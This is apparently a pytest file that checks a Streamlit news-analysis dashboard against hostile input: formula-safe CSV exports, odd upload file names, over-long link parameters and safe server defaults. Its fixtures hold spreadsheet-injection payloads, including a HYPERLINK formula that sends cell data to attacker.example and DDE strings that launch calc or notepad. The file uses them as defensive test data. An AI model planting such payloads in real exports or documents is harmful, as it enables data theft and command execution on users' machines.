"""Hostile input to the dashboard (issue rows 7, 8, 10, 11, 15), on real warehouses built by the
real ETL, the real `python -m etl add` subprocess and Streamlit's AppTest.

- Row 7: CSV exports are formula-safe: the shared function, a property over random text, a guard
  that no other module writes CSV, and the briefing pack and disagreement CSVs of a warehouse
  built from articles whose text, titles and outlets start with `=`, `+`, `-` and `@`.
- Row 8: an upload named `-draft.txt` (and a title starting with `-`) is added, a bad file in
  the same batch is refused alone, no server path is shown, and the job folder is removed.
- Row 10: the page's handling of Streamlit's refusal of a tampered upload name.
- Row 11: a link whose every parameter is 10,000 characters long, on every page.
- Row 15: the server's safe defaults live in the config file beside the app script.

The browser halves (clicking every download, a real tampered multipart upload, the server
started from another directory) are in `tests/e2e/test_hostile_browser.py`.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import os
import struct
import subprocess
import tomllib
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pandas as pd
import plotly.graph_objects as go
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from dashboard import briefing, csv_export, queries, uploads
from dashboard.briefing import BriefingChart
from dashboard.charts.framing import ChartContext
from dashboard.charts.labels import export_filename
from dashboard.filters import FILTER_PARAMS, MAX_PARAM_CHARS, Filters
from dashboard.settings import DashboardSettings
from dashboard.url_state import OWN_PARAMS
from etl import pipeline
from etl.settings import PROJECT_ROOT
from tests.conftest import make_settings

APP_PATH = str(PROJECT_ROOT / "dashboard" / "app.py")
TIMEOUT = 60
JOB_TIMEOUT = 120

# --- row 7: a corpus whose text, titles and outlets start formulas -------------------------

MANIFEST_FIELDS = ["file", "title", "outlet", "author", "url", "published", "date_precision",
                   "date_note"]
# file -> (title, outlet, published, paragraphs). The two articles disagree on when the forum
# was first held and when CICA was founded, so the Disagreements page has rows to export.
FORMULA_ARTICLES = {
    "equals.txt": ('=HYPERLINK("http://attacker.example/?d="&A1,"Open the report")',
                   "=Equals Wire", "2023-05-10", [
                       "=1+2 The Astana International Forum, held since 2008, has become a "
                       "platform for dialogue on global challenges.",
                       "In 2010, CICA had 18 member states.",
                       "@SUM(1+1) CICA was established in 1999 by the foreign ministers.",
                   ]),
    "plus.txt": ("+cmd|' /C calc'!A0", "+Plus Wire", "2023-06-12", [
        "+cmd|' /C calc'!A0 The Astana International Forum was first held in 2023, gathering "
        "diplomats and experts in the capital.",
        "In 2010, CICA had 22 member states.",
        "-2+3 CICA was founded in 1992 in Almaty.",
    ]),
    "minus.txt": ("-2+3+cmd|' /C notepad'!A0", "-Minus News", "2024-01-05", [
        "-1+1 Kazakhstan proposed the International Agency for Biological Safety in 2020, "
        "and security cooperation was discussed.",
    ]),
    "at.txt": ("@SUM(A1:A9)", "@At Daily", "2024-02-01", [
        "@SUM(A1:A9) The Congress of Leaders of World and Traditional Religions met in Astana "
        "in 2018 to discuss economic cooperation.",
    ]),
}


def write_formula_corpus(folder: Path) -> Path:
    """Write FORMULA_ARTICLES as .txt files with a manifest into `folder`; returns it."""
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "manifest.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=MANIFEST_FIELDS)
        writer.writeheader()
        for name, (title, outlet, published, paragraphs) in FORMULA_ARTICLES.items():
            (folder / name).write_text("\n\n".join(paragraphs) + "\n", encoding="utf-8")
            writer.writerow({"file": name, "title": title, "outlet": outlet, "author": "",
                             "url": f"https://{name[:-4]}.example/a", "published": published,
                             "date_precision": "day", "date_note": ""})
    return folder


def build_formula_warehouse(root: Path) -> Path:
    """The real ETL's warehouse over the formula corpus, in `root`."""
    articles = write_formula_corpus(root / "articles")
    db_path = root / "warehouse.duckdb"
    report = pipeline.build_warehouse(make_settings(articles, db_path))
    assert report.status == "ok" and report.articles_loaded == len(FORMULA_ARTICLES), (
        report.messages())
    return db_path


def formula_cells(content: bytes) -> tuple[list[str], int]:
    """Check every cell of a CSV as a spreadsheet would read it: returns the cells that would
    start a formula, and how many cells were neutralised (a quote before a formula start)."""
    dangerous: list[str] = []
    neutralised = 0
    for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")):
        for cell in row:
            if cell.startswith(csv_export.FORMULA_STARTS) and not _is_number(cell):
                dangerous.append(cell)
            if cell[:1] == "'" and cell[1:].startswith(csv_export.FORMULA_STARTS):
                neutralised += 1
    return dangerous, neutralised


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower() not in {"nan", "inf", "-inf", "+inf"}


@pytest.fixture(scope="module")
def formula_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_formula_warehouse(tmp_path_factory.mktemp("formula"))


@pytest.fixture(scope="module")
def formula_con(formula_warehouse: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    con = duckdb.connect(str(formula_warehouse), read_only=True)
    yield con
    con.close()


def test_row7_formula_starts_are_neutralised_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({
        "text": ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "\uff1dx",
                 "-12", "+3.5", "plain", None],
        "count": [-1, 2, -3, 4, 5, 6, 7, 8, 9, 10, -11],
        "share": [-0.5] * 11,
    })
    frame["=SUM(A1)"] = "header"
    rows = list(csv.reader(io.StringIO(csv_export.csv_bytes(frame).decode(), newline="")))
    assert rows[0] == ["text", "count", "share", "'=SUM(A1)"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
                                        "'\t=x", "'\r=x", "'\uff1dx", "-12", "+3.5", "plain", ""]
    assert [r[1] for r in rows[1:]][:3] == ["-1", "2", "-3"]  # numbers are not formulas
    assert {r[2] for r in rows[1:]} == {"-0.5"}


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=12), st.integers(-10**6, 10**6)), max_size=8))
def test_row7_any_text_comes_out_formula_safe(cells: list[tuple[str, int]]) -> None:
    """Row 7, property: whatever the text, no CSV cell starts a formula, and the text is
    intact behind the mark."""
    frame = pd.DataFrame(cells, columns=["text", "number"])
    content = csv_export.csv_bytes(frame)
    dangerous, _ = formula_cells(content)
    assert not dangerous
    back = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))[1:]
    for (text, number), (cell, number_cell) in zip(cells, back, strict=True):
        assert cell in {text, "'" + text}
        assert int(number_cell) == number


def test_row7_no_dashboard_module_writes_csv_but_the_shared_one() -> None:
    """Row 7: any export, present or future, goes through `csv_export.csv_bytes`."""
    writers = []
    for path in sorted((PROJECT_ROOT / "dashboard").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {"to_csv", "writer",
                                                                 "DictWriter"}:
                writers.append((path.name, node.attr))
    assert writers == [("csv_export.py", "to_csv")], writers


def test_row7_every_table_goes_through_the_formula_safe_component() -> None:
    """Row 7: a table's own "Download as CSV" (written by the browser from the cells shown)
    is an export too: every `st.dataframe` is `components.table`, which makes cells safe."""
    calls = []
    for path in sorted((PROJECT_ROOT / "dashboard").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {"dataframe", "data_editor",
                                                                 "table"}:
                calls.append((path.name, ast.unparse(node)))
    assert {call for call in calls if not call[1].startswith("components.")} == {
        ("components.py", "st.dataframe")}, calls


def test_row7_the_article_table_shows_formula_titles_as_text(
        formula_warehouse: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Row 7: the Articles table (and so its toolbar download) holds the hostile titles and
    outlets with the leading quote."""
    monkeypatch.setenv("IM_DB_PATH", str(formula_warehouse))
    at = AppTest.from_file(APP_PATH, default_timeout=TIMEOUT)
    at.switch_page("app_pages/articles.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    (shown,) = [d.value for d in at.dataframe]
    content = shown.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
    dangerous, neutralised = formula_cells(content)
    assert not dangerous and neutralised >= 8, (dangerous, shown)


def _tiny_png(_figure: go.Figure) -> bytes:
    """A valid 1x1 PNG: the slides' images are not what this test is about."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (struct.pack(">I", len(body)) + kind + body
                + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


def test_row7_briefing_pack_and_disagreement_csvs_of_formula_articles(
        formula_con: duckdb.DuckDBPyConnection) -> None:
    """Row 7: articles whose text, titles and outlets start with =, +, - and @ reach every
    CSV of a briefing pack (timeline rows, disagreements, cited sentences) as text."""
    stored = formula_con.execute("SELECT title, outlet FROM articles").fetchall()
    assert {t[:1] for t, _ in stored} == {"=", "+", "-", "@"}, stored
    assert {o[:1] for _, o in stored} == {"=", "+", "-", "@"}, stored
    sentences = [s for (s,) in formula_con.execute("SELECT text FROM sentences").fetchall()]
    assert {s[:1] for s in sentences} >= {"=", "+", "-", "@"}, sentences

    everything = Filters()
    events = queries.timeline_cells(formula_con, everything)
    claims = queries.disagreement_claims(formula_con, everything, 20)
    cited = queries.theme_sentences(formula_con, everything, 3)
    assert not events.empty and not claims.empty and not cited.empty
    ctx = ChartContext(title="=Timeline", subtitle="-all", source="@source",
                       filename=export_filename("timeline", everything))
    figure = go.Figure(go.Scatter(x=[1], y=[1]))
    pack = briefing.build_briefing_pack(
        [BriefingChart(figure, events, ctx),
         BriefingChart(figure, claims, ctx, citations=cited)],
        view="=Test view", filter_line="+all", filters=everything, built_at=None,
        today=dt.date(2026, 12, 6), render_png=_tiny_png)
    with zipfile.ZipFile(io.BytesIO(pack)) as archive:
        tables = {name: archive.read(name) for name in archive.namelist()
                  if name.endswith(".csv")}
    assert len(tables) == 3, sorted(tables)
    total = 0
    for name, content in tables.items():
        dangerous, neutralised = formula_cells(content)
        assert not dangerous, (name, dangerous)
        total += neutralised
    assert total >= 8  # titles, outlets and sentences of the four articles, marked as text
    disagreement_csv = csv_export.csv_bytes(claims)
    assert not formula_cells(disagreement_csv)[0]
    assert formula_cells(disagreement_csv)[1] >= 4


# --- row 8: odd upload names reach the ETL as names, never as options ---------------------

ARTICLE = ("Astana, 2 May 2024. The International Agency for Biological Safety, proposed by "
           "Kazakhstan, was discussed again at the United Nations in 2024.\n")


def _add(chosen: list[uploads.Upload], **options: object) -> tuple[uploads.AddJob,
                                                                     uploads.AddResult]:
    settings_now = DashboardSettings()
    accepted, refused, problem = uploads.check_uploads(chosen, settings_now)
    assert problem is None
    job = uploads.start_add(accepted, settings_now, refused_here=refused, **options)
    return job, uploads.finish(job, uploads.wait(job, JOB_TIMEOUT))


def test_row8_a_file_named_dash_draft_is_added_with_a_dash_title(
        deployment: tuple[Path, Path]) -> None:
    """Row 8: `-draft.txt` with the title `-Draft notes` is one file with one title."""
    articles, db = deployment
    job, result = _add([uploads.Upload("-draft.txt", ARTICLE.encode())],
                       metadata=uploads.UploadMetadata(title="-Draft notes", outlet="--wire"))
    (row,) = result.rows
    assert (row["file"], row["outcome"]) == ("-draft.txt", "loaded"), result
    assert row["saved_as"] and (articles / row["saved_as"]).read_bytes() == ARTICLE.encode()
    with duckdb.connect(str(db), read_only=True) as con:
        titles = dict(con.execute("SELECT source_file, title FROM articles").fetchall())
    assert titles[row["saved_as"]] == "-Draft notes"
    assert not job.job_dir.exists() and not (articles / uploads.INCOMING_DIR_NAME).exists()


def test_row8_one_bad_file_never_fails_the_batch_and_no_server_path_is_shown(
        deployment: tuple[Path, Path]) -> None:
    """Row 8: odd names and a bad file in one upload: each file gets its own outcome, the
    report names no folder of the server, and the job folder is gone."""
    articles, _db = deployment
    chosen = [
        uploads.Upload("--help.txt", ARTICLE.replace("2024", "2025").encode()),
        uploads.Upload("-", ARTICLE.encode()),  # no extension: refused by the page
        uploads.Upload("--.txt", b""),  # empty: refused by the ETL
        uploads.Upload("nul\0name.txt", ARTICLE.replace("May", "June").encode()),
        uploads.Upload("\udcffbad.txt", ARTICLE.replace("May", "July").encode()),
        uploads.Upload("ok.txt", ARTICLE.replace("May", "March").encode()),
    ]
    job, result = _add(chosen)
    outcomes = {row["file"]: row["outcome"] for row in result.rows}
    assert outcomes["--help.txt"] == "loaded" and outcomes["ok.txt"] == "loaded", result.rows
    assert outcomes["-"] == "refused" and outcomes["--.txt"] == "refused", result.rows
    assert len(result.rows) == len(chosen)
    assert set(outcomes.values()) <= {"loaded", "refused"}, result.rows
    shown = " ".join([result.summary] + [str(v) for row in result.rows for v in row.values()])
    for folder in (articles, articles.resolve(), job.job_dir, PROJECT_ROOT, Path("/tmp")):
        assert str(folder) not in shown, (folder, shown)
    assert not job.job_dir.exists()


def test_row8_a_crashed_rebuild_keeps_the_files_but_shows_no_server_path(
        deployment: tuple[Path, Path]) -> None:
    """Row 8: when the command dies, the message says so without naming server folders."""
    articles, _db = deployment
    job = uploads.start_add([uploads.Upload("kept.txt", ARTICLE.encode())],
                            DashboardSettings())
    job.process.kill()
    result = uploads.finish(job, uploads.wait(job, JOB_TIMEOUT))
    assert result.severity == "error" and "did not finish" in result.summary
    assert str(articles) not in result.summary and str(job.job_dir) not in result.summary
    assert job.job_dir.name in result.summary  # the operator can find it from the message


def test_row8_the_folder_of_a_job_nobody_read_is_removed_by_the_next_upload(
        deployment: tuple[Path, Path]) -> None:
    """Row 8: a tab closed during its upload never calls `finish`; once the job is done and
    old, the next upload removes its folder; a recent one is left for its page to read."""
    articles, _db = deployment
    abandoned = uploads.start_add([uploads.Upload("left.txt", ARTICLE.encode())],
                                  DashboardSettings())
    uploads.wait(abandoned, JOB_TIMEOUT)  # finished, but nobody reads the report
    assert abandoned.job_dir.exists()
    assert uploads.sweep_finished_jobs(articles) == []  # too recent: its page may be reading
    report = abandoned.job_dir / uploads.REPORT_NAME
    stale = report.stat().st_mtime - uploads.ABANDONED_JOB_SECONDS - 1
    os.utime(report, (stale, stale))
    job, result = _add([uploads.Upload("next.txt", ARTICLE.replace("May", "June").encode())])
    assert by_outcome(result) == {"next.txt": "loaded"}
    assert not abandoned.job_dir.exists() and not job.job_dir.exists()
    assert (articles / "left.txt").exists()  # the abandoned job's file was saved all the same


def by_outcome(result: uploads.AddResult) -> dict[str, str]:
    return {row["file"]: row["outcome"] for row in result.rows}


# --- row 10: a tampered upload gets a message, not an exception box ------------------------

def test_row10_a_tampered_name_is_refused_by_the_page_with_its_reason(
        deployment: tuple[Path, Path]) -> None:
    """Row 10: the uploader leaves types to the page (Streamlit's own check would raise before
    the page runs), and the page refuses a tampered name with a message."""
    at = AppTest.from_file(APP_PATH, default_timeout=TIMEOUT)
    at.run()
    at.switch_page("app_pages/add_articles.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    (uploader,) = at.get("file_uploader")
    assert not list(uploader.proto.type)
    accepted, refused, problem = uploads.check_uploads(
        [uploads.Upload("evil.sh", b"#!/bin/sh\n"), uploads.Upload("nul\0.sh", b"x"),
         uploads.Upload("fine.txt", ARTICLE.encode())], DashboardSettings())
    assert problem is None and [u.name for u in accepted] == ["fine.txt"]
    assert [r["file"] for r in refused] == ["evil.sh", "nul\0.sh"]
    assert all("'.sh' files are not accepted" in r["detail"] for r in refused)


# --- row 11: over-long link parameters ----------------------------------------------------

PAGES = ["overview", "timeline", "membership", "topics", "disagreements", "articles", "search",
         "add_articles"]


@pytest.mark.parametrize("page", PAGES)
def test_row11_every_parameter_10000_characters_long(app_env: Path, page: str) -> None:
    """Row 11: a link whose every parameter is 10,000 characters long: the page says so, shows
    its defaults, and the link is written back without them."""
    at = AppTest.from_file(APP_PATH, default_timeout=TIMEOUT)
    at.query_params.update({name: "x" * 10_000 for name in sorted(OWN_PARAMS)})
    at.switch_page(f"app_pages/{page}.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    (warning,) = [w.value for w in at.warning if "could not be read" in w.value]
    for name in FILTER_PARAMS:
        assert name in warning
    assert f"{MAX_PARAM_CHARS:,}" in warning
    assert at.title, "the page drew nothing"
    assert not any(len(v) > MAX_PARAM_CHARS for v in at.query_params.values()
                   for v in ([v] if isinstance(v, str) else v)), at.query_params
    at.run()  # the next run reads the cleaned link: no message any more
    assert not [w for w in at.warning if "could not be read" in w.value]


@pytest.fixture
def app_env(built_warehouse: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("IM_DB_PATH", str(built_warehouse))
    return built_warehouse


# --- row 15: safe server defaults wherever it starts ---------------------------------------

def test_row15_the_safe_server_defaults_sit_beside_the_app_script() -> None:
    """Row 15: Streamlit reads `.streamlit/config.toml` beside the main script whatever the
    working directory (and above the working directory's own); it holds the safe defaults."""
    config = tomllib.loads((PROJECT_ROOT / "dashboard" / ".streamlit" / "config.toml")
                           .read_text(encoding="utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    assert config["client"]["showErrorDetails"] == "none"
    assert config["browser"]["gatherUsageStats"] is False
    assert not (PROJECT_ROOT / ".streamlit" / "config.toml").exists(), (
        "one config file: the one beside dashboard/app.py")


@pytest.mark.parametrize("target", ["run", "serve"])
def test_row15_make_serves_on_127_0_0_1_whatever_the_environment_says(target: str) -> None:
    """Row 15: `make run` / `make serve` bind to 127.0.0.1 even when the environment exports
    HOST=0.0.0.0 (dev containers do); only `make serve HOST=...` chooses another address."""
    def planned(*args: str) -> str:
        done = subprocess.run(["make", "-n", "-C", str(PROJECT_ROOT), target, *args],
                              env={**os.environ, "HOST": "0.0.0.0"}, capture_output=True,
                              text=True, check=True)
        return done.stdout
    assert "--server.address 127.0.0.1" in planned()
    assert "--server.address 0.0.0.0" in planned("HOST=0.0.0.0")


@pytest.mark.parametrize("content", [None, b"not a database"])
def test_row15_a_missing_or_broken_warehouse_names_no_server_path(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: bytes | None) -> None:
    """Row 15: what a visitor reads when the warehouse cannot be opened names no folder of the
    server (nor DuckDB's error text, which holds the path); the server's log has it."""
    db_path = tmp_path / "private" / "warehouse.duckdb"
    if content is not None:
        db_path.parent.mkdir()
        db_path.write_bytes(content)
    monkeypatch.setenv("IM_DB_PATH", str(db_path))
    at = AppTest.from_file(APP_PATH, default_timeout=TIMEOUT)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    (shown,) = [e.value for e in at.error]
    assert "warehouse.duckdb" in shown and "make etl" in shown
    assert str(tmp_path) not in shown and "private" not in shown, shown
